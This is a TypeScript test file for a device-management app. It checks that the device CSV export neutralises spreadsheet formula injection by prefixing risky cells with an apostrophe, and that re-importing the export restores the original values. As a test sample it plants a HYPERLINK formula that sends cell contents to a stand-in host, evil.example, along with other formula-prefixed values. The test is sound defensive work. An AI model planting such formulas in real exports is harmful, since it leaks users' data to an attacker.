import { deviceCsvColumns } from '@conecta/contracts';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertPasswordAccount } from '../../accounts';
import { hashPassword } from '../../auth/passwords';
import { bearer, createTestApp, signIn, type TestApp } from '../../test/test-app';
import { devices } from './table';
import { accountByEmail, insertTestRows, storedDevice, testIdentifiers, testRow } from './test-devices';

// Runs on the embedded database (csv lines built by the database, read in batches) and, in the
// server-postgres project, on PostgreSQL's COPY path: both must write the same safe cells.
const series = 8;
const planted = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
let t: TestApp;
let staff: string;
let admin: string;

beforeAll(async () => {
  t = await createTestApp();
  await insertPasswordAccount(t.db, {
    email: 'planter@conecta.example',
    displayName: 'Plain Planter',
    passwordHash: await hashPassword('planter'),
    roles: ['user'],
  });
  const planter = await signIn(t.app, 'planter@conecta.example', 'planter');
  [staff, admin] = await Promise.all([
    signIn(t.app, 'staff@conecta.example', 'staff'),
    signIn(t.app, 'admin@conecta.example', 'admin'),
  ]);
  const owner = await accountByEmail(t.db, 'planter@conecta.example');
  await insertTestRows(t.db, [
    testRow(
      1,
      { manufacturer: 'Formulamaker', ownerId: owner.id, ownerName: owner.displayName, notes: '+SUM(A1:A9)' },
      series,
    ),
    testRow(2, { manufacturer: 'Formulamaker', model: '-2+3', city: '@cmd', notes: 'a=b stays' }, series),
    testRow(3, { manufacturer: 'Formulamaker', os: '\t=1+1', osVersion: '\r=1+1', plan: '=', notes: '' }, series),
  ]);
  // A user plants a formula in their own display name; it travels into the devices they own.
  const renamed = await t.app.inject({
    method: 'POST',
    url: '/api/auth/user/update',
    headers: bearer(planter),
    payload: { user: { data: { displayName: planted } } },
  });
  expect(renamed.statusCode, renamed.body).toBe(200);
});
afterAll(() => t.close());

const exportRecords = async (token: string) => {
  const response = await t.app.inject({
    method: 'GET',
    url: '/api/devices/export.csv?manufacturer=Formulamaker&sort=imei&order=asc',
    headers: bearer(token),
  });
  expect(response.statusCode).toBe(200);
  const [, ...records] = parse(response.body, { bom: true }) as string[][];
  return {
    body: response.body,
    records: records.map((r) => Object.fromEntries(deviceCsvColumns.map((c, i) => [c, r[i]]))),
  };
};

describe('the device export is safe to open in a spreadsheet', () => {
  it('starts every free-text cell that could run as a formula with an apostrophe', async () => {
    const { records } = await exportRecords(staff);
    expect(records).toHaveLength(3);
    const [first, second, third] = records;
    expect(first).toMatchObject({ ownerName: `'${planted}`, notes: "'+SUM(A1:A9)" });
    expect(second).toMatchObject({ model: "'-2+3", city: "'@cmd", notes: 'a=b stays' });
    expect(third).toMatchObject({ os: "'\t=1+1", osVersion: "'\r=1+1", plan: "'=", notes: '' });
    // A line's leading '+' is part of the number, which the contracts restrict to digits.
    expect(first?.msisdn).toBe(testIdentifiers(1, series).msisdn);
  });

  it('imports its own safe cells back as they were typed', async () => {
    const { body } = await exportRecords(admin);
    await t.db.delete(devices).where(eq(devices.manufacturer, 'Formulamaker'));
    const imported = await t.app.inject({
      method: 'POST',
      url: '/api/devices/import',
      headers: { ...bearer(admin), 'content-type': 'text/csv' },
      payload: body,
    });
    expect(imported.json()).toEqual({ imported: 3 });
    expect((await storedDevice(t.db, testIdentifiers(1, series).imei))?.notes).toBe('+SUM(A1:A9)');
    expect((await storedDevice(t.db, testIdentifiers(2, series).imei))?.model).toBe('-2+3');
  });
});
